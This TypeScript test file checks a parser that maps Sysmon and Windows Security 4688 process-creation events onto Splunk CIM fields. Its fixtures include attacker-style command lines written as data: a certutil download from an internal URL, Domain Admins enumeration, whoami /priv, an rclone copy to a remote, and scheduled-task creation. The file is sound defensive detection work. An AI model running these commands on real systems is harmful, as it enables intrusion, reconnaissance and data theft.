import { test } from "node:test";
import assert from "node:assert/strict";
import { eventFromCim, parseEvents } from "./index";
import { integrityFromLabel } from "./vendor";
import { SECURITY_4688_JSON, SECURITY_4688_XML, SYSMON_SPLUNK_JSON, SYSMON_XML } from "./fixtures.test-data";

test("Sysmon Event ID 1 XML maps as the Splunk Add-on for Sysmon does", () => {
  const r = parseEvents(SYSMON_XML);
  assert.equal(r.format, "sysmon-xml");
  assert.deepEqual(r.problems, []);
  const e = r.events[0];
  assert.ok(e);
  assert.equal(e.format, "sysmon-xml");
  const expected: Record<string, string> = {
    process_path: "C:\\Windows\\System32\\certutil.exe",
    process_name: "certutil.exe",
    process_exec: "certutil.exe",
    // entities decoded: &quot; &amp; &#x26; &#38; &lt; &gt; &apos;
    process: 'certutil.exe -urlcache -f http://10.0.0.9/a.txt "C:\\Users\\bob\\a & b.exe" && <x> \'q\'',
    parent_process_path: "C:\\Windows\\explorer.exe",
    parent_process_name: "explorer.exe",
    parent_process: "C:\\Windows\\Explorer.EXE",
    original_file_name: "CertUtil.exe",
    user: "CORP\\bob",
    dest: "ws01.corp.local",
    process_id: "4242",
    parent_process_id: "1000",
    process_guid: "{11111111-2222-3333-4444-555555555555}",
    parent_process_guid: "{66666666-2222-3333-4444-555555555555}",
    process_integrity_level: "medium",
    process_current_directory: "C:\\Users\\bob\\",
    process_hash: "MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=AA",
    vendor_product: "Microsoft Sysmon",
    action: "allowed",
  };
  for (const [k, v] of Object.entries(expected)) assert.equal(e.fields[k], v, k);
  assert.deepEqual(e.provenance["process_name"], {
    origin: "mapped",
    from: "Image",
    note: "file name part of Sysmon Event ID 1 Image",
  });
  assert.equal(e.provenance["process"]?.from, "CommandLine");
  assert.equal(e.text, SYSMON_XML);
});

test("Security 4688 XML: hex IDs kept, creator as user when no target, label → integrity level", () => {
  const r = parseEvents(SECURITY_4688_XML);
  assert.equal(r.format, "security-4688-xml");
  assert.deepEqual(r.problems, []);
  const f = r.events[0]?.fields ?? {};
  assert.equal(f["process_path"], "C:\\Windows\\System32\\net.exe");
  assert.equal(f["process_name"], "net.exe");
  assert.equal(f["process"], 'net  group "Domain Admins" /domain');
  assert.equal(f["parent_process_name"], "cmd.exe");
  assert.equal(f["parent_process_path"], "C:\\Windows\\System32\\cmd.exe");
  // The Windows add-on keeps the hexadecimal IDs Windows logs (ESCU's data source notes
  // "New_Process_ID in Hex"); converting would make `process_id=6700` match where Splunk does not.
  assert.equal(f["process_id"], "0x1a2c");
  assert.equal(f["parent_process_id"], "0xb2c");
  assert.equal(f["user"], "CORP\\alice");
  assert.equal(f["user_id"], "S-1-5-21-1-2-3-1104");
  assert.equal(f["dest"], "dc01.corp.local");
  assert.equal(f["process_integrity_level"], "high");
  assert.equal(f["vendor_product"], "Microsoft Windows");
  assert.equal(f["parent_process"], undefined, "4688 has no parent command line");
  assert.equal(f["original_file_name"], undefined);
  assert.equal(r.events[0]?.line, 1);
});

test("XML: many events wrapped in <Events>, other event IDs are problems with their line", () => {
  const other = `<Event><System><Provider Name="Microsoft-Windows-Sysmon"/><EventID>3</EventID></System><EventData><Data Name="Image">C:\\x.exe</Data></EventData></Event>`;
  const xml = `<?xml version="1.0" encoding="utf-8"?>\n<Events>\n${SYSMON_XML}\n${other}\n${SECURITY_4688_XML}\n</Events>`;
  const r = parseEvents(xml);
  assert.deepEqual(
    r.events.map((e) => [e.index, e.line, e.format]),
    [
      [0, 3, "sysmon-xml"],
      [1, 5, "security-4688-xml"],
    ],
  );
  assert.equal(r.problems.length, 1);
  assert.equal(r.problems[0]?.line, 4);
  assert.match(r.problems[0]?.message ?? "", /Event ID 3 .*not a process creation/);
});

test("XML with missing tags still yields what it has", () => {
  const cases: [string, string, Record<string, string>][] = [
    [
      "missing </System> and </EventData>",
      `<Event><System><EventID>1</EventID><Computer>h1</Computer><EventData><Data Name="Image">C:\\a\\b.exe</Data></Event>`,
      { process_name: "b.exe", dest: "h1" },
    ],
    [
      "no <EventData> wrapper, unclosed <Event>",
      `<Event><System><EventID>1</EventID></System><Data Name="CommandLine">whoami /all</Data>`,
      { process: "whoami /all", process_name: "whoami" },
    ],
    [
      "stray end tag and unquoted attribute",
      `<Event></Foo><System><EventID>4688</EventID></System><EventData><Data Name=NewProcessName>C:\\w\\x.exe</Data></EventData></Event>`,
      { process_name: "x.exe" },
    ],
    [
      "CDATA and a comment",
      `<Event><!-- c --><System><EventID>1</EventID></System><EventData><Data Name="CommandLine"><![CDATA[a.exe <b> & c]]></Data></EventData></Event>`,
      { process: "a.exe <b> & c" },
    ],
  ];
  for (const [name, xml, expected] of cases) {
    const r = parseEvents(xml);
    assert.equal(r.events.length, 1, name);
    for (const [k, v] of Object.entries(expected)) assert.equal(r.events[0]?.fields[k], v, `${name}: ${k}`);
  }
  const truncated = parseEvents(`<Event><System><EventID>1</EventID></System><EventData><Data Name="Image">C:\\a.exe</Da`);
  assert.equal(truncated.events[0]?.fields["process_name"], "a.exe");
  assert.ok(truncated.problems.some((p) => /missing <\/Event>|missing <\/EventData>/.test(p.message)));
  const none = parseEvents("<?xml version='1.0'?><Events></Events>");
  assert.equal(none.events.length, 0);
  assert.match(none.problems[0]?.message ?? "", /no <Event> elements/);
});

test("Sysmon JSON (Splunk rendering): mapped fields, numbers read as text", () => {
  const r = parseEvents(JSON.stringify(SYSMON_SPLUNK_JSON, null, 2));
  assert.equal(r.format, "sysmon-json");
  const f = r.events[0]?.fields ?? {};
  assert.equal(f["process_name"], "powershell.exe");
  assert.equal(f["parent_process_name"], "WINWORD.EXE");
  assert.equal(f["process_id"], "5120");
  assert.equal(f["process_integrity_level"], "high");
  assert.equal(f["user"], "CORP\\carol");
  assert.equal(r.events[0]?.line, 1);
});

test("Security 4688 JSON: Target Subject is the user; Process_Command_Line; named label", () => {
  const e = eventFromCim(SECURITY_4688_JSON, 7);
  assert.ok(!("problem" in e));
  assert.equal(e.format, "security-4688-json");
  assert.equal(e.line, 7);
  assert.equal(e.fields["process"], "whoami /priv");
  assert.equal(e.fields["user"], "CORP\\dave");
  assert.equal(e.fields["user_id"], "S-1-5-21-1-2-3-1200");
  assert.equal(e.fields["process_integrity_level"], "medium");
  assert.equal(e.fields["process_id"], "0x2f0");
  assert.equal(e.fields["parent_process_id"], "0x11c");
  assert.equal(e.provenance["process"]?.from, "Process_Command_Line");
});

test("nested JSON forms: Event.System/EventData, Data arrays, winlogbeat", () => {
  const nested = {
    Event: {
      System: { Provider: { "@Name": "Microsoft-Windows-Sysmon" }, EventID: { "#text": "1" }, Computer: "h9" },
      EventData: {
        Data: [
          { "@Name": "Image", "#text": "C:\\t\\rclone.exe" },
          { "@Name": "CommandLine", "#text": "rclone.exe copy x remote:" },
        ],
      },
    },
  };
  const winlogbeat = {
    "@timestamp": "2024-01-01T00:00:00Z",
    event: { code: "4688" },
    winlog: {
      event_id: 4688,
      computer_name: "h10",
      provider_name: "Microsoft-Windows-Security-Auditing",
      event_data: { NewProcessName: "C:\\w\\schtasks.exe", CommandLine: "schtasks /create", SubjectUserName: "eve", SubjectDomainName: "CORP" },
    },
  };
  const plainData = { Event: { System: { EventID: 1 }, EventData: { Image: "C:\\x\\y.exe", User: "U" } } };
  const cases: [string, unknown, string, Record<string, string>][] = [
    ["Event.EventData.Data[]", nested, "sysmon-json", { process_name: "rclone.exe", dest: "h9", process: "rclone.exe copy x remote:" }],
    ["winlogbeat", winlogbeat, "security-4688-json", { process_name: "schtasks.exe", dest: "h10", user: "CORP\\eve" }],
    ["EventData map", plainData, "sysmon-json", { process_name: "y.exe", user: "U" }],
  ];
  for (const [name, obj, format, expected] of cases) {
    const e = eventFromCim(obj as Record<string, unknown>);
    assert.ok(!("problem" in e), name);
    assert.equal(e.format, format, name);
    for (const [k, v] of Object.entries(expected)) assert.equal(e.fields[k], v, `${name}: ${k}`);
  }
  const first = eventFromCim(nested);
  assert.ok(!("problem" in first));
  assert.equal(first.line, 1);
});

test("non-process Windows events and unrecognised objects are problems", () => {
  assert.deepEqual(Object.keys(eventFromCim({ EventCode: "3", Image: "C:\\x.exe", DestinationIp: "1.2.3.4" })), ["problem"]);
  assert.deepEqual(Object.keys(eventFromCim({ foo: "bar" })), ["problem"]);
  assert.deepEqual(Object.keys(eventFromCim(null as unknown as Record<string, unknown>)), ["problem"]);
  assert.deepEqual(Object.keys(eventFromCim([1, 2] as unknown as Record<string, unknown>)), ["problem"]);
});

test("integrity levels from mandatory labels", () => {
  const cases: [string, string | undefined][] = [
    ["S-1-16-4096", "low"],
    ["S-1-16-8192", "medium"],
    ["S-1-16-12288", "high"],
    ["S-1-16-16384", "system"],
    ["Mandatory Label\\High Mandatory Level", "high"],
    ["Mandatory Label\\System Mandatory Level", "system"],
    ["Mandatory Label\\Medium Plus Mandatory Level", "medium"],
    ["weird", undefined],
  ];
  for (const [label, level] of cases) assert.equal(integrityFromLabel(label), level, label);
});
